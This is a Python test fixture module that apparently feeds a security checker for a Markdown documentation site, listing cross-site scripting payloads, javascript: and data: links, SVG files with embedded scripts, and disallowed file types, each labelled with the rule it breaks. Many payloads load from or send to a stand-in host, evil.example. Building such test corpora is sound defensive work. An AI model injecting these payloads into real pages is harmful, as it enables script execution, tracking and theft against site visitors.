"""Everything hostile that we know of, each as small as it can be.

Sources: PortSwigger's and OWASP's cross-site scripting cheat sheets, what Python-Markdown and its
extensions add (attribute lists, HTML with Markdown in it, options of fences), and what was tried on
the stock theme.
"""

from __future__ import annotations

from typing import NamedTuple

from tests.builders import MARKER


class Text(NamedTuple):
    """A hostile running text, with a marker before what should be found.

    Attributes:
        name: of the page it is put on.
        body: the text.
        rule: the id of the rule that it breaks; none where it is plain text, or code, and is shown
            as that.
        active: whether it does anything in the page where no check on the sources stops it, so
            that the check on the site has to.
    """

    name: str
    body: str
    rule: str | None
    active: bool = False


def texts() -> list[Text]:
    """Return the hostile texts."""
    html = [
        ("script", "▲<script>alert(1)</script>"),
        ("script-src", "▲<script src=//evil.example/x.js></script>"),
        ("script-capitals", "▲<ScRiPt>alert(1)</ScRiPt>"),
        ("script-slash", "▲<script/x>alert(1)</script>"),
        ("script-unclosed", "▲<script>alert(1)"),
        ("script-module", '▲<script type="module">alert(1)</script>'),
        ("script-data", '▲<script type="application/json"></script><script>alert(1)</script>'),
        ("script-within-text", "tekst ▲<script>alert(1)</script> tekst"),
        ("script-in-list", "- een\n\n    ▲<script>alert(1)</script>\n"),
        ("script-in-item", "1. ▲<script>alert(1)</script>"),
        ("script-in-quote", "> ▲<script>alert(1)</script>"),
        ("script-in-quoted-list", "> - x\n>     - ▲<script>alert(1)</script>"),
        ("script-in-table", "| a |\n| --- |\n| ▲<script>alert(1)</script> |"),
        ("script-in-heading", "## ▲<script>alert(1)</script>"),
        ("script-in-footnote", "Noot.[^1]\n\n[^1]: ▲<script>alert(1)</script>"),
        ("script-in-definition", "Term\n:   ▲<script>alert(1)</script>"),
        ("script-in-admonition", "!!! note\n    ▲<script>alert(1)</script>"),
        ("script-in-emphasis", "**▲<script>alert(1)</script>**"),
        ("script-in-link", "[▲<script>alert(1)</script>](mkb.md)"),
        ("script-after-comment", "▲<!-- -->\n<script>alert(1)</script>"),
        ("script-in-odd-comment", "▲<!--><script>alert(1)</script>-->"),
        ("script-over-lines", '▲<script\nsrc="//evil.example/x.js"\n></script>'),
        ("script-after-backtick", "a ` b\nc `▲<script>alert(1)</script>` d ` e"),
        ("script-after-escape", "\\`▲<script>alert(1)</script>\\`"),
        ("image-error", "▲<img src=x onerror=alert(1)>"),
        ("image-error-quoted", "▲<img src=\"x\" onerror='alert(1)'>"),
        ("image-error-over-lines", "a ▲<img\nsrc=x\nonerror=alert(1)> b"),
        ("image-tracker", '▲<img src="https://evil.example/t.gif">'),
        ("image-srcset", '▲<img srcset="https://evil.example/t.gif 1x" alt="">'),
        ("picture-source", '▲<picture><source srcset="//evil.example/x"></picture>'),
        ("svg-load", "▲<svg onload=alert(1)></svg>"),
        ("svg-script", "▲<svg><script>alert(1)</script></svg>"),
        (
            "svg-animate",
            '▲<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
        ),
        ("svg-set", "▲<svg><set onbegin=alert(1) attributeName=x></svg>"),
        ("svg-use", '▲<svg><use href="data:image/svg+xml,<svg/>"></use></svg>'),
        ("svg-foreign", "▲<svg><foreignObject><iframe></iframe></foreignObject></svg>"),
        ("math", '▲<math><maction xlink:href="javascript:alert(1)">x</maction></math>'),
        ("body", "▲<body onload=alert(1)>"),
        ("details-toggle", "▲<details open ontoggle=alert(1)>x</details>"),
        ("autofocus", "▲<input autofocus onfocus=alert(1)>"),
        ("marquee", "▲<marquee onstart=alert(1)>x</marquee>"),
        ("video", "▲<video><source onerror=alert(1)></video>"),
        ("audio", '▲<audio src="https://evil.example/x" autoplay></audio>'),
        ("pointer", "▲<b onpointerover=alert(1)>x</b>"),
        ("unknown-element", "▲<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>"),
        ("iframe", '▲<iframe src="https://evil.example/"></iframe>'),
        ("iframe-srcdoc", '▲<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
        ("iframe-script", '▲<iframe src="javascript:alert(1)"></iframe>'),
        ("frameset", '▲<frameset><frame src="//evil.example"></frameset>'),
        ("object", '▲<object data="javascript:alert(1)"></object>'),
        ("embed", '▲<embed src="https://evil.example/x.swf">'),
        ("applet", "▲<applet code=x></applet>"),
        ("base", '▲<base href="https://evil.example/">'),
        ("refresh", '▲<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
        ("other-policy", '▲<meta http-equiv="Content-Security-Policy" content="">'),
        ("style-element", "▲<style>body{display:none}</style>"),
        ("style-import", "▲<style>@import 'https://evil.example/x.css'</style>"),
        ("style-attribute", '▲<p style="position:fixed;inset:0">x</p>'),
        ("style-sheet", '▲<link rel="stylesheet" href="https://evil.example/x.css">'),
        ("preload", '▲<link rel="preload" as="script" href="https://evil.example/x.js">'),
        ("form", '▲<form action="https://evil.example/"><input name="q"></form>'),
        ("form-button", '▲<button formaction="https://evil.example/">x</button>'),
        ("link-html", '▲<a href="javascript:alert(1)">x</a>'),
        ("link-html-entity", '▲<a href="jav&#x09;ascript:alert(1)">x</a>'),
        ("link-html-newline", '▲<a href="java\nscript:alert(1)">x</a>'),
        ("link-ping", '▲<a href="https://example.org/" ping="https://evil.example/">x</a>'),
        ("markdown-in-html", '▲<div markdown="1" onclick="alert(1)">\n\n*x*\n\n</div>'),
        ("span-in-html", '▲<span markdown="span" onmouseover="alert(1)">x</span>'),
        ("html-in-code-tail", "▲<div></div>`<script>alert(1)</script>`"),
        ("template-shadow", '▲<template shadowrootmode="open"><slot></slot></template>'),
        ("dialog-script", "▲<dialog open onclose=alert(1)></dialog>"),
        ("noscript", '▲<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
        ("title", '▲<title><a title="</title><img src=x onerror=alert(1)>"></title>'),
        ("textarea", '▲<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
        ("xmp", '▲<xmp><a title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
        ("plaintext", "▲<plaintext>"),
        ("cdata", "▲<![CDATA[<script>alert(1)</script>]]>"),
        ("instruction", '▲<?xml-stylesheet href="javascript:alert(1)"?>'),
        ("doctype", '▲<!DOCTYPE html [<!ENTITY x "y">]>'),
        ("unbalanced-quote", '▲<a title="x><script>alert(1)</script>'),
        ("nested-tags", "▲<<script>script>alert(1)</script>"),
    ]
    html += [
        ("bold", "▲<b>x</b>"),
        ("end-tag", "x ▲</p> y"),
        ("comment", "▲<!-- x -->"),
        ("anchor", '▲<a id="x"></a>'),
    ]
    attributes = [
        ("attribute-event", "x ▲{: onclick=alert(1) }"),  # needs an element before it
        ("attribute-of-link", "[x](mkb.md)▲{: onclick=alert(1) }"),
        ("attribute-of-link-short", "[x](mkb.md)▲{onclick=alert(1)}"),
        ("attribute-of-image", "![x](x.png)▲{: onerror=alert(1) }"),
        ("attribute-of-emphasis", "*x*▲{: onmouseover=alert(1) tabindex=0 }"),
        ("attribute-of-heading", '## Kop ▲{: #a onclick="alert(1)" }'),
        ("attribute-of-paragraph", "Tekst\n▲{: onclick=alert(1) }"),
        ("attribute-of-item", "- een\n▲{: onclick=alert(1) }"),
        ("attribute-of-cell", "| a |\n| --- |\n| b ▲{: onclick=alert(1) } |"),
        ("attribute-of-term", "Term ▲{: onclick=alert(1) }\n:   Uitleg"),
        ("attribute-style", "*x*▲{: style=position:fixed }"),
        ("attribute-address", "[x](mkb.md)▲{: href=javascript:alert(1) }"),
        ("attribute-source", "![x](x.png)▲{: src=https://evil.example/x }"),
        ("attribute-capitals", "*x*▲{: OnClick=alert(1) }"),
        ("attribute-of-code", "`x`▲{: onclick=alert(1) }"),
        ("attribute-class", "*x*▲{: .md-overlay }"),
    ]
    addresses = [
        ("link", "[x](▲javascript:alert(1))"),
        ("link-capitals", "[x](▲JaVaScRiPt:alert(1))"),
        ("link-decimal", "[x](▲&#106;avascript:alert(1))"),
        ("link-colon", "[x](▲javascript&#58;alert(1))"),
        ("link-named-colon", "[x](▲javascript&colon;alert(1))"),
        ("link-pointed", "[x](▲<javascript:alert(1)>)"),
        ("link-spaced", "[x](  ▲javascript:alert(1) )"),
        ("link-titled", '[x](▲javascript:alert(1) "titel")'),
        ("link-comment", "[x](▲javascript://example.org/%0aalert(1))"),
        ("link-vbscript", "[x](▲vbscript:msgbox(1))"),
        ("link-data", "[x](▲data:text/html,<script>alert(1)</script>)"),
        ("link-data-coded", "[x](▲data:text/html;base64,PHNjcmlwdD4=)"),
        ("link-file", "[x](▲file:///etc/passwd)"),
        ("link-source", "[x](▲view-source:https://example.org/)"),
        ("link-blob", "[x](▲blob:https://example.org/1)"),
        ("link-relative-host", "[x](▲//evil.example/)"),
        ("link-nested", "[![x](x.png)](▲javascript:alert(1))"),
        ("link-in-heading", "## [x](▲javascript:alert(1))"),
        ("link-in-table", "| a |\n| --- |\n| [x](▲javascript:alert(1)) |"),
        ("reference", "[x][y]\n\n[y]: ▲javascript:alert(1)"),
        ("reference-pointed", "[x][y]\n\n[y]: ▲<javascript:alert(1)>"),
        ("reference-titled", '[x][y]\n\n[y]: ▲javascript:alert(1) "titel"'),
        ("reference-next-line", "[x][y]\n\n[y]:\n    ▲javascript:alert(1)"),
        ("reference-short", "[y]\n\n[y]: ▲javascript:alert(1)"),
        ("reference-implied", "[y][]\n\n[y]: ▲javascript:alert(1)"),
        ("autolink", "▲<javascript:alert(1)>"),
        ("autolink-slashes", "▲<javascript://%0aalert(1)>"),
        ("autolink-data", "▲<data:text/html,x>"),
    ]
    plain = [
        ("image-error-slash", "▲<img/src=x/onerror=alert(1)>"),
        ("svg-slash", "▲<svg/onload=alert(1)>"),
        ("unclosed-tag", "▲<img src=x onerror=alert(1)//"),
        ("attribute-without-value", "*x*▲{: onclick }"),
        ("attribute-of-fence", '```▲{ .x onclick="alert(1)" }\na\n```'),
        ("attribute-of-fence-language", '``` python ▲{onclick="alert(1)"}\na\n```'),
        ("link-over-lines", "[x](▲java\nscript:alert(1))"),
    ]
    no_scheme = [
        ("link-tab-entity", "[x](▲java&#x09;script:alert(1))"),
        ("link-newline-entity", "[x](▲java&NewLine;script:alert(1))"),
        ("link-backslashes", "[x](▲\\\\\\\\evil.example/)"),
        ("link-with-code", "[x](▲j`avascript`:alert(1))"),
    ]
    pictures = [
        ("reference-of-image", "![x][y]\n\n[y]: ▲data:image/svg+xml,<svg/>"),
        ("script", "![x](▲javascript:alert(1))"),
        ("data", "![x](▲data:image/png;base64,AAAA)"),
    ]
    odd = [
        Text("script-after-open-fence", "▲```\n<script>alert(1)</script>", "unclosed-code"),
        Text("script-after-wrong-fence", "▲```\n~~~\n<script>alert(1)</script>", "unclosed-code"),
        Text("footnote-name", "[^`]: ▲` ` <script>alert(1)</script> `", "raw-html"),
        Text("footnote-name-link", "[^`]: ▲` ` [x](javascript:alert(1)) `", "bad-url", active=True),
        Text("nested-braces", "a `x`▲{:## kop {#a} onclick=alert(1) }", "attribute"),
        Text("link-as-code", "[x](▲`javascript:alert(1)`)", "broken-link"),
        Text("plain-http", "[x](▲http://example.org/)", "http-url"),
        Text("autolink-http", "<▲http://example.org/>", "http-url"),
        Text(
            "image-elsewhere-by-reference",
            "![x][y]\n\n[y]: ▲https://evil.example/",
            "outside-image",
            active=True,
        ),
        Text("image-elsewhere", "![x](▲https://evil.example/t.gif)", "outside-image", active=True),
    ]
    return [
        *(Text(name, body, "raw-html") for name, body in html),
        *(Text(name, body, "attribute") for name, body in attributes),
        *(Text(f"address-{name}", body, "bad-url", active=True) for name, body in addresses),
        *(Text(f"address-{name}", body, "broken-link") for name, body in no_scheme),
        *(Text(f"image-{name}", body, "outside-image", active=True) for name, body in pictures),
        *(Text(name, body, None) for name, body in plain),
        *odd,
    ]


HARMLESS = [
    "```html\n<script>alert(1)</script>\n```",
    "1. stap\n\n    ```html\n    <img src=x onerror=alert(1)>\n    ```",
    "Schrijf `<script>` en `{: onclick=x }` of ``a ` <b>``.",
    "Een &lt;script&gt; als tekst, R&D, 3 < 4 en 5 > 4.",
    "[x](https://example.org/?a=1&b=2) en <https://example.org/a_b>, [kop](#a-b)\n\n## Kop {#a-b}",
    "De *City Deal*{lang=en} en de _Green Deal_{lang=en}.",
    "| a | b |\n| :-- | --: |\n| 12:30 | javascript: is een taal |",
    '!!! note "Titel & meer"\n    Tekst',
    "Noot.[^1]\n\n[^1]: De tekst, zie [x](https://example.org/).",
]
"""What an editor may write, though it looks like code."""

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
_PAGE = b"<!doctype html><title>x</title><script>alert(1)</script>"


class File(NamedTuple):
    """A hostile file that is no page, with the rule that it breaks."""

    path: str
    content: bytes
    rule: str
    active: bool = True
    line: int = 1


def files() -> list[File]:
    """Return the hostile files."""
    pictures = {
        "script": "\n<script>alert(1)</script>",
        "script-prefixed": '\n<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
        "event": '\n<path onclick="alert(1)"/>',
        "event-foreign": '\n<path xmlns:e="urn:x" e:onload="alert(1)"/>',
        "foreign": "\n<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
        "html": '\n<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
        "link": '\n<a xlink:href="javascript:alert(1)"><text>x</text></a>',
        "animate": '\n<animate attributeName="href" to="javascript:alert(1)"/>',
        "set": '\n<set attributeName="onclick" to="alert(1)"/>',
        "use": '\n<use href="https://evil.example/x.svg#a"/>',
        "use-data": '\n<use xlink:href="data:image/svg+xml,&lt;svg/&gt;#a"/>',
        "image": '\n<image href="https://evil.example/t.gif"/>',
        "filter": '\n<filter><feImage href="https://evil.example/t.gif"/></filter>',
        "style": "\n<style>@import url(https://evil.example/x.css)</style>",
        "style-escaped": "\n<style>@\\69mport 'https://evil.example/x.css'</style>",
        "style-url": '\n<path style="fill:url(https://evil.example/x)"/>',
        "fill": '\n<path fill="url(//evil.example/x)"/>',
        "handler": '\n<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load"/>',
        "stylesheet": '\n<?xml-stylesheet href="javascript:alert(1)"?>',
    }
    entity = '<!DOCTYPE svg [<!ENTITY x "&lt;script&gt;">]>\n' + _SVG.format("&x;")
    utf16 = '<?xml version="1.0" encoding="utf-16"?>\n' + _SVG.format("\n<script/>")
    return [
        *(
            File(f"over/beeld-{name}.svg", _SVG.format(body).encode(), "unsafe-svg", line=2)
            for name, body in pictures.items()
        ),
        File("over/beeld-entity.svg", entity.encode(), "unsafe-svg"),
        File("over/beeld-utf16.svg", utf16.encode("utf-16"), "unsafe-svg", line=3),
        File("over/beeld-page.svg", _PAGE, "file-content"),
        File("over/beeld-empty.svg", b"", "file-content"),
        File("over/pagina.html", _PAGE, "file-kind"),
        File("over/pagina.htm", _PAGE, "file-kind"),
        File("over/pagina-groot.HTML", _PAGE, "file-kind"),
        File("over/pagina.xhtml", _PAGE, "file-kind"),
        File("over/pagina.xml", b'<a><script xmlns="x"/></a>', "file-kind"),
        File("over/stijl.xml", b'<?xml-stylesheet href="x.xsl"?><a/>', "file-kind"),
        File("over/stijl.xsl", b"<a/>", "file-kind"),
        File("over/beeld.svgz", b"\x1f\x8b", "file-kind"),
        File("over/programma.js", b"alert(1)", "file-kind"),
        File("over/programma.mjs", b"alert(1)", "file-kind"),
        File("over/programma.wasm", b"\0asm", "file-kind"),
        File("over/film.swf", b"CWS", "file-kind"),
        File("over/archief.mhtml", b"MIME-Version: 1.0", "file-kind"),
        File("over/opmaak.css", b"@import 'https://evil.example'", "file-kind", active=False),
        File("over/macro.docm", b"PK\x03\x04", "file-kind", active=False),
        File("over/zonder", _PAGE, "file-kind", active=False),
        File("robots.html", _PAGE, "file-kind"),
        File("assets/pagina.html", _PAGE, "file-kind"),
        File("assets/img/beeld.svg", _SVG.format("<script/>").encode(), "unsafe-svg"),
        File(".well-known/evil.html", _PAGE, "file-kind"),
        File("over/.well-known/evil.js", b"alert(1)", "file-kind"),
        File("over/foto.png", _PAGE, "file-content", active=False),
        File("over/stuk.pdf", _PAGE, "file-content", active=False),
        File("over/Foto 1.JPG", b"\xff\xd8\xff", "upload-name", active=False),
        File("over/plan.en.pdf", b"%PDF-1.7", "upload-name", active=False),
        File("over/Map/foto.jpg", b"\xff\xd8\xff", "file-name", active=False),
        File("over/groot.png", b"\x89PNG\r\n\x1a\n" + b"0" * 1_100_000, "file-size", active=False),
    ]


assert all(MARKER in text.body for text in texts())
